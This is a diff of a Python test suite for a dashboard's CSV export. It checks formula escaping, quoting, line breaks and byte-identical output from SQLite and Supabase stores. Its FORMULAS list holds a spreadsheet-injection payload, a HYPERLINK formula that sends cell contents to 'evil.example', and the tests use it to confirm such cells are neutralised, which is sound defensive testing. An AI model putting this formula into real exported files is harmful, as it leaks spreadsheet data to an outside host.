@@ -3,18 +3,21 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
+import json
+import re
 
-import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as hyp
 
-from predictions.dashboard import queries
+from predictions.dashboard import csv_export
 from predictions.scoring.metrics import METRICS
 from predictions.store import SQLiteStore
 from predictions.store.frames import PREDICTION_COLUMNS
 from predictions.store.records import PredictionRow
+from tests.pg_fixtures import user_store
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1, "Click")',
@@ -34,7 +37,7 @@ def read_csv(text: str) -> list[dict[str, str]]:
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_formula_cells_are_prefixed_with_a_quote_in_every_text_column(store, cell):
     store.write_predictions([PredictionRow(cell, 1, 10, 0, prompt=cell, prediction=cell, ground_truth=cell)])
-    (row,) = read_csv(queries.job_csv(store, cell))
+    (row,) = read_csv(csv_export.job_csv(store, cell))
     for column in ("job_id", "prompt", "ground_truth", "prediction"):
         assert row[column] == "'" + cell, column
 
@@ -47,7 +50,7 @@ def test_other_cells_and_numbers_are_written_verbatim(store):
         for i, text in enumerate(HARMLESS)
     ]
     store.write_predictions(rows)
-    read = read_csv(queries.job_csv(store, "job"))
+    read = read_csv(csv_export.job_csv(store, "job"))
     assert [row["prediction"] for row in read] == HARMLESS
     assert [row["prompt"] for row in read] == HARMLESS
     assert {row["exact_match"] for row in read} == {"0.0", "1.0"}
@@ -57,7 +60,7 @@ def test_other_cells_and_numbers_are_written_verbatim(store):
 def test_line_breaks_inside_a_cell_stay_inside_it(store):
     texts = ["two\nlines", "carriage\rreturn", "both\r\nends"]
     store.write_predictions([PredictionRow("job", 1, 10, i, "p", text) for i, text in enumerate(texts)])
-    assert [row["prediction"] for row in read_csv(queries.job_csv(store, "job"))] == texts
+    assert [row["prediction"] for row in read_csv(csv_export.job_csv(store, "job"))] == texts
 
 
 def test_a_job_larger_than_a_page_is_exported_whole_in_order_with_fixed_columns(store):
@@ -69,33 +72,10 @@ def test_a_job_larger_than_a_page_is_exported_whole_in_order_with_fixed_columns(
             for i in range(500)
         ]
     )
-    read = read_csv(queries.job_csv(store, "job"))
+    read = read_csv(csv_export.job_csv(store, "job"))
     assert [row["prediction"] for row in read] == [f"{s}-{i}" for s in range(1, 6) for i in range(500)]
     assert list(read[0]) == list(read[-1]) and list(read[0])[-1] == "judge"
     assert {row["judge"] for row in read[:1000]} == {""} and {row["judge"] for row in read[1000:]} == {"0.5"}
-
-
-def pandas_csv(store, job_id: str, page_rows: int) -> str:
-    """The export as it was before rows went straight to `csv.writer`: a frame per keyset page,
-    formula cells escaped, `to_csv` (kept here as the reference the new writer must equal)."""
-    buffer, after = io.StringIO(), None
-    custom = [metric.name for metric in store.trends(job_id).metrics if metric.name not in METRICS]
-    columns = [*PREDICTION_COLUMNS, *custom]
-    while True:
-        rows = store.rows_after(job_id, after, limit=page_rows).reindex(columns=columns)
-        if rows.empty and after is not None:
-            return buffer.getvalue()
-        safe = rows.copy()
-        for column in [name for name in safe.columns if not pd.api.types.is_numeric_dtype(safe[name])]:
-            safe[column] = safe[column].map(
-                lambda cell: (
-                    "'" + cell if isinstance(cell, str) and cell.startswith(queries.FORMULA_STARTS) else cell
-                )
-            )
-        safe.to_csv(buffer, index=False, header=after is None, lineterminator="\r\n")
-        if len(rows) < page_rows:
-            return buffer.getvalue()
-        after = (int(rows.iloc[-1]["step"]), int(rows.iloc[-1]["sample_index"]))
 
 
 def odd_rows(job_id: str, texts: list[str], numbers: list[float | None]) -> list[PredictionRow]:
@@ -116,15 +96,83 @@ def odd_rows(job_id: str, texts: list[str], numbers: list[float | None]) -> list
 
 
 TEXTS = ["Paris", "日本語 🙂", "=1+1", "-2", "two\nlines", 'say "hi", ok', "", "\r=x", "tab\there", "ﬁ ß Ω"]
-NUMBERS = [None, 0.0, 1.0, 0.1 + 0.2, 1e-05, 123456.789, 1 / 3, 2.5e16, -0.0]
+NUMBERS = [None, 0.0, 1.0, 0.1 + 0.2, 1e-05, 123456.789, 1 / 3, 2.5e16, -0.0, 1e300, 5e-324]
 
 
-def test_the_streamed_csv_equals_the_pandas_export_byte_for_byte(store, monkeypatch):
-    monkeypatch.setattr(queries, "CSV_PAGE_ROWS", 7)  # pages end mid-round and a score starts mid-page
-    store.write_predictions(odd_rows("job", TEXTS, NUMBERS))
-    new = queries.job_csv(store, "job")
-    assert new == pandas_csv(store, "job", 7)
-    assert len(read_csv(new)) == 3 * len(TEXTS) and list(read_csv(new)[0])[-2:] == ["judge", "zeta"]
+def safe(text: str | None) -> str:
+    return "" if text is None else "'" + text if text.startswith(csv_export.FORMULA_STARTS) else text
+
+
+def number(cell: str) -> float | None:
+    return None if cell == "" else float(cell)
+
+
+def expected_cells(rows: list[PredictionRow]) -> list[tuple]:
+    """What a reader gets back for the written rows: texts (formula-escaped), numbers read back exactly
+    (repr round-trips), metadata as the parsed JSON, in (step, sample) order."""
+    out = []
+    for row in sorted(rows, key=lambda row: (row.step, row.sample_index)):
+        texts = (safe(row.job_id), str(row.epoch), str(row.step), str(row.sample_index), safe(row.prompt))
+        texts += (safe(row.ground_truth), safe(row.prediction))
+        metrics = tuple(getattr(row, name) for name in METRICS)
+        scores = tuple((row.scores or {}).get(name) for name in ("judge", "zeta"))
+        out.append((texts, metrics, row.metadata, str(row.text_replacements), scores))
+    return out
+
+
+def read_cells(text: str) -> list[tuple]:
+    """The file parsed strictly (RFC 4180: CRLF ends, doubled quotes) into `expected_cells`' shape."""
+    assert text.endswith("\r\n")
+    header, *lines = csv.reader(io.StringIO(text, newline=""), strict=True)
+    assert header == [*PREDICTION_COLUMNS, "judge", "zeta"]
+    at = {name: header.index(name) for name in header}
+    out = []
+    for line in lines:
+        texts = tuple(line[:7])
+        metrics = tuple(number(line[at[name]]) for name in METRICS)
+        metadata = line[at["metadata"]]
+        scores = (number(line[at["judge"]]), number(line[at["zeta"]]))
+        meta = json.loads(metadata) if metadata else None
+        out.append((texts, metrics, meta, line[at["text_replacements"]], scores))
+    return out
+
+
+def test_every_text_cell_is_quoted_and_numbers_are_not(sqlite_store):
+    """Quoting every text keeps an empty text (`""`) apart from a missing one (empty cell)."""
+    sqlite_store.write_predictions([PredictionRow("job", 1, 10, 0, "p", "", None, exact_match=0.5)])
+    line = csv_export.job_csv(sqlite_store, "job").split("\r\n")[1]
+    assert line.startswith('"job",1,10,0,"p",,"",0.5,,,,,0,"')
+
+
+def test_the_file_reads_back_as_written_on_every_store(store, monkeypatch):
+    monkeypatch.setattr(csv_export, "CSV_PAGE_ROWS", 7)  # pages end mid-round and a score starts mid-page
+    rows = odd_rows("job", TEXTS, NUMBERS)
+    store.write_predictions(rows)
+    assert read_cells(csv_export.job_csv(store, "job")) == expected_cells(rows)
+
+
+STAMP = r'"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00"'
+"""A `created_at` cell: each store stamps its own write time."""
+
+
+def test_both_stores_write_the_same_bytes(postgrest, tmp_path, monkeypatch):
+    """The same rows give the same file from SQLite and Supabase: metadata JSON with sorted keys (jsonb
+    reorders them), numbers as repr, whichever types each store hands back."""
+    monkeypatch.setattr(csv_export, "CSV_PAGE_ROWS", 7)
+    rows = odd_rows("job", TEXTS, NUMBERS)
+    rows[1] = dataclasses.replace(
+        rows[1], metadata={"zz": 1, "a": 1.5, "é": "ü", "long key first": [1, 2.25]}
+    )
+    sqlite, supabase = SQLiteStore(tmp_path / "p.db"), user_store(postgrest)
+    for store in (sqlite, supabase):
+        store.write_predictions(rows)
+    written = [re.sub(STAMP, '"T"', csv_export.job_csv(store, "job")) for store in (sqlite, supabase)]
+    assert written[0] == written[1] and written[0].count('"T"') == len(rows)  # write times differ only
+    assert '"{""a"": 1.5, ""long key first"": [1, 2.25], ""zz"": 1, ""é"": ""ü""}"' in csv_export.job_csv(
+        sqlite, "job"
+    )
+    sqlite.close()
+    supabase.close()
 
 
 @settings(max_examples=40, deadline=None)
@@ -135,11 +183,15 @@ def test_the_streamed_csv_equals_the_pandas_export_byte_for_byte(store, monkeypa
         max_size=6,
     ),
     numbers=hyp.lists(
-        hyp.one_of(hyp.none(), hyp.floats(allow_nan=False, allow_infinity=False)), min_size=1, max_size=5
+        # below 1e300: a round's score sum overflowing breaks `trends` on SQLite (a bug of its own)
+        hyp.one_of(hyp.none(), hyp.floats(-1e300, 1e300)),
+        min_size=1,
+        max_size=5,
     ),
 )
-def test_the_streamed_csv_equals_the_pandas_export_for_any_values(tmp_path_factory, texts, numbers):
+def test_any_values_read_back_as_written(tmp_path_factory, texts, numbers):
     store = SQLiteStore(tmp_path_factory.mktemp("csv") / "p.db")
-    store.write_predictions(odd_rows("job", texts, numbers))
-    assert queries.job_csv(store, "job") == pandas_csv(store, "job", queries.CSV_PAGE_ROWS)
+    rows = odd_rows("job", texts, numbers)
+    store.write_predictions(rows)
+    assert read_cells(csv_export.job_csv(store, "job")) == expected_cells(rows)
     store.close()
